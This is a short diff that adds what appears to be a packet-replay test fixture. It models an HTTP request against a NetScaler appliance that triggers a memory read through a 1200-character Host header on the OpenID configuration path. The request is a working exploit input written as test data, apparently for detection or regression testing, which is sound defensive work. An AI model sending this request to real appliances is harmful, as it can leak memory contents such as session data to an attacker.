@@ -1,0 +1,18 @@
+# NetScaler, memory read by an overlong host name.
+proto tcp
+client 10.0.0.1:40000
+server 10.0.0.2:80
+
+>>>
+GET /oauth/idp/.well-known/openid-configuration HTTP/1.1\r\n
+Host:\x20
+@repeat 1200 a
+\r\n
+User-Agent: Mozilla/5.0\r\n
+\r\n
+
+<<<
+HTTP/1.1 200 OK\r\n
+Content-Length: 2\r\n
+\r\n
+ok
